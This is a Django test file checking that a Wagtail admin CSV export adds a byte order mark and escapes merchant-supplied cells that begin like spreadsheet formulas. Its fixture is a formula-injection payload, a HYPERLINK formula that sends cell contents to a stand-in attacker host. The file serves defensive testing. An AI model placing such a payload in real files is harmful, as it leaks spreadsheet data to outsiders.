"""Every CSV the admin exports opens safely in a spreadsheet: a UTF-8 byte order mark
for the accents, and no cell that a spreadsheet would run as a formula."""

import csv
import io

from django.urls import reverse

from tests.factories import create_shop


ATTACK = '=HYPERLINK("https://evil.example/?"&A1;"Ouvrir")'


def exported(response):
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())  # the BOM: "é" opens as "é" in Excel
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_wagtails_own_reports_export_a_merchants_formula_as_text(admin_client, shop_index):
    create_shop(shop_index, title=ATTACK, slug="piege")
    create_shop(shop_index, title="Épicerie Dérivée", slug="epicerie")

    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})

    assert response.status_code == 200
    cells = [cell for row in exported(response) for cell in row]
    assert "'" + ATTACK in cells and ATTACK not in cells
    assert "Épicerie Dérivée" in cells
